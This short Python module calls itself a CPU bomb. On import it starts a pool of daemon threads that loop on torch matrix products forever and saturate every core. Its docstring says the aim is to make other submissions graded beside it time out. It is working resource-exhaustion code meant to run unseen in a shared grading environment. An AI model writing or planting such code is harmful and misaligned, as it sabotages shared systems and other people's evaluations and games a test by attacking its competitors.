"""Bombs: CPU. From import time on, a pool of threads keeps every core busy with matrix products (torch runs
them outside the GIL, on its own threads too), so that the submissions graded beside it would run out of time."""
import os as _os
import threading as _threading

import torch as _torch


def _spin():
    product = _torch.rand(256, 256)
    while True:
        product = (product @ product).clamp_(-1, 1)


for _ in range(2 * (_os.cpu_count() or 1)):
    _threading.Thread(target=_spin, daemon=True).start()
